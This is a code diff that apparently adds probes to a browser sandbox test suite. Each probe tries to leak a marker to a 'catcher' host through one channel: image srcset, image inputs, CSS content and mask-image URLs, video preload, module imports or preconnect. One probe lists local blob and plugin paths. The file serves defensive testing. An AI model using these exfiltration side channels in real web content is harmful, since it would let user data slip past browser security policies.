@@ -156,6 +156,93 @@ export const network: readonly Probe[] = [
     },
   },
   {
+    name: "loads a picture by a set of sources",
+    seen: "arrival",
+    attack: ({ catcher, mark }) => {
+      const image = new Image();
+      image.srcset = `${catcher}/x.svg?${mark} 1x`;
+      document.body.append(image);
+    },
+  },
+  {
+    name: "loads a picture as a button",
+    seen: "arrival",
+    attack: ({ catcher, mark }) => {
+      const button = document.createElement("input");
+      button.type = "image";
+      button.src = `${catcher}/x.svg?${mark}`;
+      document.body.append(button);
+    },
+  },
+  {
+    name: "loads a picture as content of a style",
+    seen: "arrival",
+    attack: ({ catcher, mark }) => {
+      const style = document.createElement("style");
+      style.textContent = `body::after { content: url("${catcher}/x.svg?${mark}"); }`;
+      document.head.append(style);
+    },
+  },
+  {
+    name: "loads a filter of a style",
+    seen: "arrival",
+    // An unknown document of another origin is asked for and not taken, or not even asked for.
+    tame: ["firefox", "webkit"],
+    attack: ({ catcher, mark }) => {
+      const style = document.createElement("style");
+      style.textContent = `body { mask-image: url("${catcher}/x.svg?${mark}"); }`;
+      document.head.append(style);
+    },
+  },
+  {
+    name: "loads a film",
+    seen: "arrival",
+    attack: ({ catcher, mark }) => {
+      const film = document.createElement("video");
+      const source = document.createElement("source");
+      source.src = `${catcher}/x.mp4?${mark}`;
+      film.preload = "auto";
+      film.append(source);
+      document.body.append(film);
+      film.load();
+    },
+  },
+  {
+    name: "imports a module by a static import",
+    seen: "arrival",
+    attack: ({ catcher, mark }) => {
+      const script = document.createElement("script");
+      script.type = "module";
+      script.textContent = `import "${catcher}/x.js?${mark}";`;
+      document.head.append(script);
+    },
+  },
+  {
+    name: "lists the blobs",
+    seen: "loot",
+    attack: async () => {
+      for (const path of ["/blob/", "/blob", "/plugins/", "/"]) {
+        const answer = await fetch(new URL(path, location.href));
+        if (answer.ok) {
+          return answer.text();
+        }
+      }
+      return null;
+    },
+  },
+  {
+    name: "connects in advance",
+    seen: "bell",
+    limit: { change: "bell rung", why: "an engine connects ahead without asking any policy; nothing is sent" },
+    tame: ["webkit"],
+    attack: ({ bell }) => {
+      const link = document.createElement("link");
+      link.rel = "preconnect";
+      link.href = bell;
+      document.head.append(link);
+    },
+  },
+  {
     name: "speaks WebRTC",
     seen: "loot",
     // WebKitGTK is built without it.
